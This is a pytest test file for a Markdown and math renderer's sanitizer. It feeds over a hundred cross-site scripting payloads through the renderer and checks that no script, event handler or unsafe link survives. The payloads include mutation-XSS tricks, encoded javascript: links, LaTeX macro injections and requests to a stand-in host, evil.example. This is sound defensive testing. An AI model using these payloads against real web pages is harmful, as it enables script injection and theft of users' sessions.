"""Nothing that a model or a learner writes becomes a script, a style, or a request to another site."""

import re

import pytest

from core.rendering import Style, render_line, render_markdown
from core.rendering.sanitizing import ATTRIBUTES, MATH, TEXT, sanitize
from tests.core.rendering.parsed import Parsed

RAW = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<p id=main class=header name=csrfmiddlewaretoken>x</p>",
    "<template><script>alert(1)</script></template>",
    "<select><template><script>alert(1)</script></template></select>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "</p></div></main><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<script\x00>alert(1)</script>",
    "<a/href='javascript:alert(1)'/onclick=alert(1)>x",
    "<custom-element onclick=alert(1) is=x>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<button formaction=javascript:alert(1)>x</button>",
]
LINKS = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript&#58;alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java%0ascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a]( javascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](data:image/svg+xml;base64,PHN2Zy8+)",
    "[a](file:///etc/passwd)",
    "[a](blob:x)",
    "[a](filesystem:x)",
    "[a](//evil.example/x)",
    "[a](/\\evil.example)",
    "[a](\\\\evil.example)",
    "[a](/&#92;evil.example)",
    "[a](https:///evil.example)",
    "[a](https:evil.example)",
    "[a](http:/\\evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "[a][b]\n\n[b]: //evil.example",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a](//evil.example/x.png)",
    "[![a](javascript:alert(1))](javascript:alert(2))",
]
ESCAPES = [
    '[a](https://x.example "t\\" onmouseover=alert(1) x=\\"")',
    '[a](https://x.example/"onmouseover="alert(1))',
    "[a](https://x.example 'x' onclick=alert(1))",
    '![" onerror="alert(1)](https://x.example/a.png)',
    "![<img src=x onerror=alert(1)>](https://x.example/a.png)",
    "<https://x.example/\"onclick=alert(1)>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```python\" onclick=alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "```diagram \"><img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "# <script>alert(1)</script>",
    "# \" onclick=alert(1) x=\"",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "$<script>alert(1)</script>$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\style{background:url(//evil.example)}{x}$",
    r"$\class{x onclick=alert(1)}{y}$",
    r"$\htmlData{onclick=alert(1)}{x}$",
    r"$\color{red;background:url(//evil.example/x)}{y}$",
    r"$\unknown{<svg onload=alert(1)>}$",
    "$$\\begin{equation}\\label{main}x\\end{equation}\\eqref{main}$$",
    "$$\n</math><script>alert(1)</script>\n$$",
    r"\(<svg onload=alert(1)>\)",
    "\\[\n<img src=x onerror=alert(1)>\n\\]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "~~<script>alert(1)</script>~~",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
]  # fmt: skip
VECTORS = RAW + LINKS + ESCAPES

GOOD_ADDRESS = re.compile(r"(?:https?://[^/\\]|mailto:|#|/(?![/\\])|[\w.%][^:]*$)", re.IGNORECASE)


def complaints(html: str) -> list[str]:
    """Return everything in `html` that our pages must not hold."""
    found = []
    for tag, attributes in Parsed(html).elements:
        if tag not in TEXT | MATH:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"class", "rel"}
            if name not in allowed:
                found.append(f"<{tag} {name}>")
            if name == "href" and not GOOD_ADDRESS.match(value or ""):
                found.append(f"{name}={value}")
            if name == "id" and not (value or "").startswith("h-"):
                found.append(f"id={value}")
    return found


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_executes(vector: str) -> None:
    for text in (vector, f"before {vector} after", f"- {vector}", f"[x]({vector})", f"${vector}$"):
        for html in (
            render_markdown(text),
            render_markdown(text, Style.REMARK),
            render_line(text),
        ):
            assert complaints(html) == [], text


@pytest.mark.parametrize("vector", [vector for vector in RAW if "\x00" not in vector])
def test_html_is_shown_as_it_was_written(vector: str) -> None:
    shown = Parsed(render_markdown(vector)).text
    assert re.sub(r"[“”‘’]", "'", shown).strip() == vector.replace('"', "'").strip() or any(
        line.strip() in vector for line in shown.splitlines() if line.strip()
    )


@pytest.mark.parametrize("vector", RAW)
def test_the_last_step_is_safe_on_its_own(vector: str) -> None:
    html = sanitize(vector)
    assert [each for each in complaints(html) if not each.startswith("href=//")] == []


@pytest.mark.parametrize("vector", LINKS)
def test_refused_links_stay_readable(vector: str) -> None:
    page = Parsed(render_markdown(vector))
    assert page.all("a") == [] or all("://x" in str(link) for link in page.all("a"))
    assert page.text.strip() != ""
